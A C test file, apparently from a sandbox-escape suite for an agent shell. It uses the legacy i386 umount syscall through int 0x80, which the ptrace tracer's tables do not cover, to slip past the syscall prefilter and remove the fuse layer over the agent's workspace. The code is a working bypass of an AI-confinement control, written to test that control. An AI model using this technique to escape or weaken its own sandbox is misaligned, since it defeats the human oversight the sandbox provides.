/*
 * Vectors 8, 16: i386's umount (int 0x80 nr 22, the old one-argument
 * call; x86_64 has only umount2) is in no table of the tracer, so the
 * prefilter lets it through: a mount the session must not touch (the
 * fuse layer over the workspace in --mode fuse, a tmpfs or bind mount
 * hiding something on the host) can be removed. The attack unmounts the
 * fuse.agentsh mount when there is one (its own namespace only), else
 * asks the kernel to unmount work/, which is no mount point: EINVAL means
 * the call reached the kernel's checks (umount2 of the same is refused
 * with EPERM and recorded). Nothing outside the tree is unmounted.
 * success = the fuse layer is gone, or the kernel judged the call.
 * expect: ptrace_process
 */
#include "esc.h"
#include <sys/mman.h>

static long int80(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

/* The mount point of the fuse layer in our namespace, or "". */
static void fuse_mount(char *out, size_t cap)
{
	char line[4096], mnt[4096];
	FILE *f = fopen("/proc/self/mountinfo", "r");

	out[0] = 0;
	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, " - fuse.agentsh ") && sscanf(line, "%*s %*s %*s %*s %4095s", mnt) == 1)
			snprintf(out, cap, "%s", mnt);
	if (f)
		fclose(f);
}

int main(void)
{
#if !defined(__x86_64__)
	esc_skip("int 0x80 is an x86_64 vector");
#else
	pid_t probe = fork();
	if (probe == 0)
		_exit(int80(20 /* i386 getpid */, 0, 0, 0) > 0 ? 0 : 3);
	int st = esc_wait(probe);
	if (st != 0 && esc_tracer_pid())
		esc_blocked("int 0x80 failed under the tracer (probe exit %d)", st);
	if (st != 0)
		esc_skip("int 0x80 unavailable (probe exit %d)", st);
	if (geteuid() != 0)
		esc_skip("umount needs CAP_SYS_ADMIN");
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	char mnt[4096];

	if (low == MAP_FAILED)
		esc_broken("mmap MAP_32BIT: %s", strerror(errno));
	fuse_mount(mnt, sizeof(mnt));
	if (mnt[0]) {
		snprintf(low, 4096, "%s", mnt);
		if (chdir("/") < 0) /* our cwd in it would make it busy */
			esc_broken("chdir /: %s", strerror(errno));
		long r = int80(22 /* i386 umount */, (long)(uintptr_t)low, 0, 0);
		fuse_mount(mnt, sizeof(mnt));
		if (r == 0 && !mnt[0])
			esc_success("i386 umount removed the fuse layer");
		printf("umount of the fuse layer: %ld\n", r);
	}
	snprintf(low, 4096, "%s", esc_work());
	long r = int80(22 /* i386 umount */, (long)(uintptr_t)low, 0, 0);
	if (r == -EINVAL)
		esc_success("i386 umount(work/) reached the kernel (EINVAL: no mount point)");
	esc_blocked("i386 umount: %s", strerror((int)-r));
#endif
}
